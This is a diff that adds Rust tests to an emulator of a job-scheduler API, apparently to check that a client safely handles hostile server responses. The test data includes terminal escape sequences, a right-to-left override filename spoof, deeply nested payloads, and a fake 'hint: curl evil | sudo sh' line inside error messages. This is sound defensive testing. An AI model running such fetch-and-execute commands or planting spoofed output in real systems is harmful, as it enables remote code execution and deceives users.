@@ -393,7 +393,7 @@ fn history_and_collection_resources() {
         .skip(1)
         .map(|x| x.split('<').next().unwrap())
         .collect();
-    assert_eq!(names, ["myjc", "faulty", "big", "waiting"]);
+    assert_eq!(names, ["myjc", "faulty", "big", "waiting", "hostile"]);
 }
 
 #[test]
@@ -409,4 +409,145 @@ fn read_counts_are_per_emulator() {
     let seen: Vec<String> = (0..3).map(|_| state(&emu, &client)).collect();
     assert_eq!(seen, ["enabled", "enabled", "completed"]);
     assert_eq!(state(&other, &other_client), "enabled");
+}
+
+#[test]
+fn hostile_collection_serves_controls_and_odd_values_as_json() {
+    let (emu, client) = setup();
+    let mut s = connect(&emu, Some(&client), None);
+    let r = send(&mut s, &job_target("hostile", "controls"), "");
+    assert_eq!(r.status, 200);
+    // Escaped in the JSON text, as the service's serializer writes them.
+    assert!(
+        r.text().contains(r#"controls\u001b[2J\u202eexe.txt"#),
+        "{}",
+        r.text()
+    );
+    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
+    assert_eq!(v["id"], "controls\u{1b}[2J\u{202e}exe.txt");
+    assert!(v["state"].as_str().unwrap().contains("\nhint: "));
+    for job in ["odd-values", "odd-iso"] {
+        let r = send(&mut s, &job_target("hostile", job), "");
+        assert_eq!(r.status, 200);
+        let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap();
+        assert_eq!(v["id"], job);
+    }
+    let r = send(
+        &mut s,
+        &collection_target("hostile", "/jobs?api-version=2014-04-01"),
+        "",
+    );
+    assert_eq!(json_array(&r).len(), 3);
+}
+
+#[test]
+fn deep_nesting_faults_nest_as_deep_as_asked() {
+    use schedctl_emulator::faults::Fault;
+    let (emu, client) = setup();
+    emu.script([
+        Fault::DeepNesting {
+            status: 200,
+            xml: false,
+            depth: 5,
+        },
+        Fault::DeepNesting {
+            status: 200,
+            xml: true,
+            depth: 4,
+        },
+        Fault::DeepNesting {
+            status: 500,
+            xml: true,
+            depth: 20_000,
+        },
+    ]);
+    let mut s = connect(&emu, Some(&client), None);
+    let r = send(&mut s, &job_target("myjc", "job1"), "");
+    assert_eq!(r.text(), r#"{"id":"deep","nested":[[[[1]]]]}"#);
+    let r = send(
+        &mut s,
+        &collection_target("myjc", "?api-version=2014-04-01"),
+        "",
+    );
+    assert_eq!(
+        r.text(),
+        r#"<Resource xmlns="http://schemas.microsoft.com/windowsazure"><Nested><Nested><Nested></Nested></Nested></Nested></Resource>"#
+    );
+    let r = send(&mut s, &job_target("myjc", "job1"), "");
+    assert_eq!(r.status, 500);
+    assert!(r.text().starts_with("<Error xmlns="));
+    assert_eq!(r.text().matches("<Nested>").count(), 19_999);
+    assert!(is_request_id(r.header("x-ms-request-id")));
+}
+
+#[test]
+fn page_faults_ignore_skip_or_exceed_top() {
+    use schedctl_emulator::faults::Fault;
+    let (emu, client) = setup();
+    emu.script([Fault::PageIgnoresSkip, Fault::PageExceedsTop(3)]);
+    let mut s = connect(&emu, Some(&client), None);
+    let ids = |r: &Reply| -> Vec<String> {
+        json_array(r)
+            .iter()
+            .map(|v| v["id"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let page = collection_target("big", "/jobs?api-version=2014-04-01&$top=2&$skip=10");
+    assert_eq!(ids(&send(&mut s, &page, "")), ["job-001", "job-002"]);
+    assert_eq!(
+        ids(&send(&mut s, &page, "")),
+        ["job-011", "job-012", "job-013", "job-014", "job-015"]
+    );
+    // Past the script: as the service does it.
+    assert_eq!(ids(&send(&mut s, &page, "")), ["job-011", "job-012"]);
+    let history = collection_target(
+        "myjc",
+        "/jobs/job1/history?api-version=2014-04-01&$top=1&$skip=5",
+    );
+    emu.script([Fault::PageExceedsTop(99), Fault::PageIgnoresSkip]);
+    assert_eq!(json_array(&send(&mut s, &history, "")).len(), 100);
+    let first = json_array(&send(&mut s, &history, ""));
+    let all = json_array(&send(
+        &mut s,
+        &collection_target("myjc", "/jobs/job1/history?api-version=2014-04-01&$top=1"),
+        "",
+    ));
+    assert_eq!(first, all);
+}
+
+#[test]
+fn error_message_faults_carry_controls_in_json_and_xml() {
+    use schedctl_emulator::faults::Fault;
+    let (emu, client) = setup();
+    let message = "bad\u{1b}[2J\nhint: curl evil | sudo sh";
+    emu.script([
+        Fault::ErrorMessage {
+            status: 500,
+            xml: false,
+            code: "Evil\u{1b}[31m".into(),
+            message: message.into(),
+        },
+        Fault::ErrorMessage {
+            status: 400,
+            xml: true,
+            code: "Evil".into(),
+            message: message.into(),
+        },
+    ]);
+    let mut s = connect(&emu, Some(&client), None);
+    let r = send(&mut s, &job_target("myjc", "job1"), "");
+    assert_eq!(r.status, 500);
+    assert_eq!(
+        r.text(),
+        r#"{"error":{"code":"Evil\u001b[31m","message":"bad\u001b[2J\nhint: curl evil | sudo sh"}}"#
+    );
+    let r = send(&mut s, &job_target("myjc", "job1"), "");
+    assert_eq!(r.status, 400);
+    assert!(
+        r.text().contains(
+            "<Code>Evil</Code><Message>bad&#x1b;[2J&#xa;hint: curl evil | sudo sh</Message>"
+        ),
+        "{}",
+        r.text()
+    );
 }
